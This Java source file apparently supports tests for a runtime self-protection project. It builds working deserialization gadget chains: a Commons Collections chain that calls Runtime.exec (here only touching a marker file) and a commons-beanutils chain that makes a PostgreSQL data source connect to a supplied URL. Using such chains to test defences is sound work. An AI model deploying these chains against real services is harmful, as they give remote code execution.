package io.github.raspspring.carrier.jvm;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.io.ObjectStreamClass;
import java.lang.reflect.Array;
import java.lang.reflect.Field;
import java.lang.reflect.Proxy;
import java.util.Base64;
import java.util.Comparator;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.PriorityQueue;

/**
 * Streams of objects that run something when they are read, built of nothing but public
 * knowledge about the libraries.
 */
final class GadgetChains {

	private static final Libraries COLLECTIONS = Libraries.of("commons-collections");

	private static final Libraries BEANUTILS = Libraries.of("commons-beanutils", "commons-collections",
			"commons-logging-1.2", "postgresql-42.3.1");

	private GadgetChains() {
	}

	/**
	 * A map whose key asks another map for its value, which transforms its way to the
	 * start of a process.
	 */
	static String collections(Damage damage) throws Exception {
		String functors = "org.apache.commons.collections.functors.";
		Class<?> transformer = COLLECTIONS.load("org.apache.commons.collections.Transformer");
		Object[] steps = { constant(functors, Runtime.class),
				invoke(functors, "getMethod", new Class<?>[] { String.class, Class[].class },
						new Object[] { "getRuntime", new Class<?>[0] }),
				invoke(functors, "invoke", new Class<?>[] { Object.class, Object[].class },
						new Object[] { null, new Object[0] }),
				invoke(functors, "exec", new Class<?>[] { String[].class },
						new Object[] { new String[] { "touch", damage.marker().toString() } }),
				invoke(functors, "waitFor", new Class<?>[0], new Object[0]), constant(functors, "x") };
		Object chain = Array.newInstance(transformer, steps.length);
		for (int i = 0; i < steps.length; i++) {
			Array.set(chain, i, steps[i]);
		}
		Object all = COLLECTIONS.make(functors + "ChainedTransformer", chain).target();
		Object lazy = COLLECTIONS
			.make("org.apache.commons.collections.map.LazyMap", new HashMap<>(), constant(functors, "y"))
			.target();
		Object key = COLLECTIONS.make("org.apache.commons.collections.keyvalue.TiedMapEntry", lazy, "k").target();
		Map<Object, Object> outer = new HashMap<>();
		outer.put(key, "v");
		((Map<?, ?>) lazy).remove("k");
		set(lazy, "factory", all);
		return write(outer);
	}

	/**
	 * A queue that compares data sources by their connection, and so opens one.
	 */
	@SuppressWarnings("unchecked")
	static String beanutils(String url) throws Exception {
		Libraries.Thing comparator = BEANUTILS.make("org.apache.commons.beanutils.BeanComparator", "URL",
				Comparator.naturalOrder());
		PriorityQueue<Object> queue = new PriorityQueue<>(2, (Comparator<Object>) comparator.target());
		for (int i = 0; i < 2; i++) {
			Libraries.Thing source = BEANUTILS.make("org.postgresql.ds.PGSimpleDataSource");
			source.call("setURL", url);
			queue.add(source.target());
		}
		comparator.call("setProperty", "connection");
		return write(queue);
	}

	static String honest() throws IOException {
		return write(List.of("a", "b"));
	}

	static void readCollections(String input) throws Exception {
		read(input, COLLECTIONS.loader());
	}

	static void readBeanutils(String input) throws Exception {
		read(input, BEANUTILS.loader());
	}

	private static Object constant(String functors, Object value) throws Exception {
		return COLLECTIONS.make(functors + "ConstantTransformer", value).target();
	}

	private static Object invoke(String functors, String method, Class<?>[] types, Object[] arguments)
			throws Exception {
		return COLLECTIONS.make(functors + "InvokerTransformer", method, types, arguments).target();
	}

	static void set(Object target, String name, Object value) throws ReflectiveOperationException {
		Field field = target.getClass().getDeclaredField(name);
		field.setAccessible(true);
		field.set(target, value);
	}

	static String write(Object value) throws IOException {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
			out.writeObject(value);
		}
		return Base64.getEncoder().encodeToString(bytes.toByteArray());
	}

	static void read(String input, ClassLoader loader) throws Exception {
		try (LoadingStream stream = new LoadingStream(new ByteArrayInputStream(Base64.getDecoder().decode(input)),
				loader)) {
			stream.readObject();
		}
	}

	/** Reads classes of a library. */
	private static final class LoadingStream extends ObjectInputStream {

		private final ClassLoader loader;

		private LoadingStream(InputStream in, ClassLoader loader) throws IOException {
			super(in);
			this.loader = loader;
		}

		@Override
		protected Class<?> resolveClass(ObjectStreamClass described) throws IOException, ClassNotFoundException {
			try {
				return Class.forName(described.getName(), false, this.loader);
			}
			catch (ClassNotFoundException ex) {
				return super.resolveClass(described);
			}
		}

		@Override
		@SuppressWarnings("deprecation")
		protected Class<?> resolveProxyClass(String[] names) throws IOException, ClassNotFoundException {
			Class<?>[] types = new Class<?>[names.length];
			for (int i = 0; i < names.length; i++) {
				types[i] = Class.forName(names[i], false, this.loader);
			}
			return Proxy.getProxyClass(this.loader, types);
		}

	}

}
